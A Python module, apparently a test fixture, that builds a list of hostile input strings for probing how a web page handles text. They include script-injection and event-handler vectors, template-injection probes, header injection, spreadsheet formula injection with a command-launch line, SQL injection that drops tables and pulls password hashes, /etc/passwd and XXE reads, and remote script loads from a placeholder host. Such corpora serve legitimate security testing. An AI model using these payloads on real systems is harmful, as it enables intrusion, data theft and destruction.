"""Hostile texts, as a page could hold them: each would do something if it were ever taken for more than text."""

from itertools import product

__all__ = ["MARK", "PAYLOADS"]

MARK = "kkpwned"
_DO = f"window.{MARK}=1"
_EVENTS = (
    "onerror onload onclick onfocus onmouseover ontoggle onbegin onpointerenter onanimationstart onbeforeinput".split()
)
_SHELLS = (
    '<img src=x {e}="{do}">',
    "<svg {e}={do}><circle r=9 /></svg>",
    '" {e}="{do}" x="',
    "' {e}='{do}' autofocus tabindex=1 '",
    "<details open {e}={do}><summary>x</summary></details>",
    "<video {e}={do}><source {e}={do}></video>",
    "<body {e}={do}>",
)
_SCRIPTS = (
    "<script>{do}</script>",
    "<ScRiPt>{do}</sCrIpT>",
    "</script><script>{do}</script>",
    "</textarea><script>{do}</script>",
    "</title><script>{do}</script>",
    "</style><script>{do}</script>",
    "--><script>{do}</script><!--",
    "<script src=//x.example/a.js></script>",
    "<scr<script>ipt>{do}</scr</script>ipt>",
    "<svg><script>{do}</script></svg>",
    "<math><mtext></p><script>{do}</script>",
    "<noscript><p title='</noscript><script>{do}</script>'>",
    "\u2028<script>{do}</script>",
    "%3Cscript%3E{do}%3C/script%3E",
    "&lt;script&gt;{do}&lt;/script&gt;",
    "&#60;script&#62;{do}&#60;/script&#62;",
    "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
    "<template><script>{do}</script></template>",
    "<iframe srcdoc='<script>parent.{do}</script>'></iframe>",
    "<object data='data:text/html,<script>{do}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload={do}>'>",
    "<base href='//x.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{do}'>",
    "<form action='javascript:{do}'><button>x</button></form>",
    "<button formaction=javascript:{do}>x</button>",
    "<a href='javascript:{do}'>x</a>",
    "<a href='jav&#x09;ascript:{do}'>x</a>",
    "<svg><a xlink:href='javascript:{do}'><text>x</text></a></svg>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={do}>#x'/></svg>",
    "<style>*{{background:url(javascript:{do})}}</style>",
    "<style>@import '//x.example/a.css';</style>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<div style='position:fixed;inset:0;background:url(//x.example)'>x</div>",
    "<input autofocus onfocus={do}>",
    "<div hx-get='/granska' hx-trigger='load' hx-on::load='{do}'>x</div>",
    "<div data-hx-post='/angra' hx-trigger='revealed'>x</div>",
    "<dialog open onclose={do}></dialog>",
    "<isindex type=image src=1 onerror={do}>",
    "<marquee onstart={do}>x</marquee>",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{constructor.constructor('" + _DO + "')()}}",
    "[[${7*7}]]",
    "{#comment#}",
)
_HEADERS = (
    "x\r\nSet-Cookie: kk_session=a",
    "x\nLocation: //x.example",
    "x%0d%0aSet-Cookie:%20a=b",
    "x\u560a\u560dSet-Cookie: a=b",
    "x\r\n\r\n<script>" + _DO + "</script>",
)
_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("//x.example")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
_SQL = (
    "'; DROP TABLE judgements; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "') UNION SELECT password_hash FROM accounts --",
    "%' AND 1=1 --",
    "\\'; DELETE FROM accounts; --",
    'NEAR("a" "b")',
    'title : "x" OR *',
    '"""',
    "AND OR NOT",
)
_ADDRESSES = (
    "javascript:" + _DO,
    "JaVaScRiPt:" + _DO,
    "java\tscript:" + _DO,
    " javascript:" + _DO,
    "data:text/html,<script>" + _DO + "</script>",
    "vbscript:msgbox(1)",
    "//x.example",
    'https://x.example/" onclick="' + _DO,
    "https://x.example/'><script>" + _DO + "</script>",
    "file:///etc/passwd",
)
_ODD = (
    "\u202etxt.exe",
    "a\u0000b<script>" + _DO + "</script>",
    "\ud7ff\ufffe",
    "😀" * 50,
    "x" * 5_000,
    "\u0301" * 200,
    "<" * 500,
    "&" * 500,
    "<!DOCTYPE html><html><head>",
    "]]><script>" + _DO + "</script>",
    "<![CDATA[<script>" + _DO + "</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
)
_SHELLED = [shell.format(e=event, do=_DO) for shell, event in product(_SHELLS, _EVENTS)]
PAYLOADS = (
    *(script.format(do=_DO) for script in _SCRIPTS),
    *_SHELLED,
    *(f"</p></div></article>{shelled}" for shelled in _SHELLED),
    *_TEMPLATES,
    *_HEADERS,
    *_FORMULAS,
    *_SQL,
    *_ADDRESSES,
    *_ODD,
)
